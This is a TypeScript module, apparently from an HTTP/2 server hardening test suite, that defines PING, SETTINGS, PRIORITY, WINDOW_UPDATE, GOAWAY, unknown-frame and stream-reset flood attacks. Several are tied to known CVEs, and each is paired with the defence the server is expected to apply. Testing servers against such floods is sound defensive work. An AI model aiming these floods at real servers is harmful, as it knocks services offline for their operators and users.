// Frames that ask for an answer, or for nothing at all, without end.

import type { Attack, Judge } from "../attack.js";
import type { Campaign } from "../campaign.js";
import {
  frame,
  GOAWAY,
  PING,
  priority,
  repeat,
  reset,
  settings,
  windowUpdate,
  words,
} from "../frames.js";
import { cutOff, cutOffUnread } from "../judges.js";
import { Streams } from "../requests.js";
import { say } from "../victim-service.js";

const CALM = "ENHANCE_YOUR_CALM";
const UNKNOWN_TYPE = 0xbe;
const MAX_CONCURRENT_STREAMS = 0x3;

/** Sends `bytes`, which are `frames` frames, over and over. */
function flood(bytes: Buffer, frames: number, reads = true): (campaign: Campaign) => Promise<void> {
  return (campaign) =>
    campaign.wave({ reads }, (connection) => campaign.flood(connection, frames, () => bytes));
}

function floodOf(
  name: string,
  does: string,
  defence: string,
  one: Buffer,
  more: Partial<Attack> = {},
): Attack {
  const atOnce = Math.max(1, Math.floor(16_384 / one.length));
  const judge: Judge = cutOff(CALM);
  return { name, does, defence, run: flood(repeat(one, atOnce), atOnce), judge, ...more };
}

const ping = frame(PING, 0, 0, Buffer.alloc(8));
const manySettings = settings(
  ...Array.from({ length: 2_700 }, (_, at) => [MAX_CONCURRENT_STREAMS, at] as const),
);
const COUNTED =
  "each frame of the kind costs, and who spends more than is given back in time is cut off";
const UNREAD =
  "nothing is read while answers pile up, and a peer that does not take them is cut off";

export const controlFrames: readonly Attack[] = [
  floodOf("ping-flood", "sends PING without end", COUNTED, ping, { reference: "CVE-2019-9512" }),
  floodOf("ping-flood-unread", "sends PING without end, and never reads", UNREAD, ping, {
    reference: "CVE-2019-9512",
    least: { connections: 1, frames: 100_000 },
    run: flood(repeat(ping, 960), 960, false),
    judge: cutOffUnread(CALM),
  }),
  floodOf("settings-flood", "sends SETTINGS without end", COUNTED, settings(), {
    reference: "CVE-2019-9515",
  }),
  floodOf(
    "settings-flood-unread",
    "sends SETTINGS without end, and never reads",
    UNREAD,
    settings(),
    {
      reference: "CVE-2019-9515",
      least: { connections: 1, frames: 100_000 },
      run: flood(repeat(settings(), 1_800), 1_800, false),
      judge: cutOffUnread(CALM),
    },
  ),
  floodOf(
    "settings-entries",
    "sends SETTINGS with 2,700 entries each",
    "a SETTINGS frame has at most 32 entries",
    manySettings,
    { reference: "CVE-2020-11080" },
  ),
  floodOf(
    "priority-flood",
    "re-arranges a tree of priorities without end",
    "PRIORITY is checked and ignored, and each frame costs",
    Buffer.concat([priority(1, 3), priority(3, 5), priority(5, 1)]),
    { reference: "CVE-2019-9513" },
  ),
  floodOf(
    "window-update-flood",
    "opens the connection's window by single octets without end",
    COUNTED,
    windowUpdate(0, 1),
  ),
  floodOf(
    "goaway-flood",
    "sends GOAWAY without end",
    COUNTED,
    frame(GOAWAY, 0, 0, Buffer.concat([words(0, 0), Buffer.alloc(64, "x")])),
  ),
  floodOf(
    "unknown-flood",
    "sends frames of an unknown type without end",
    "frames of unknown types are ignored, and each costs",
    frame(UNKNOWN_TYPE, 0, 0),
  ),
  floodOf(
    "reset-closed-flood",
    "resets a stream again and again that has long been closed",
    COUNTED,
    reset(1),
    {
      run: (campaign) =>
        campaign.wave({}, async (connection) => {
          connection.send(new Streams(say.path).request(), 2);
          await campaign.flood(connection, 1_260, () => repeat(reset(1), 1_260));
        }),
    },
  ),
];
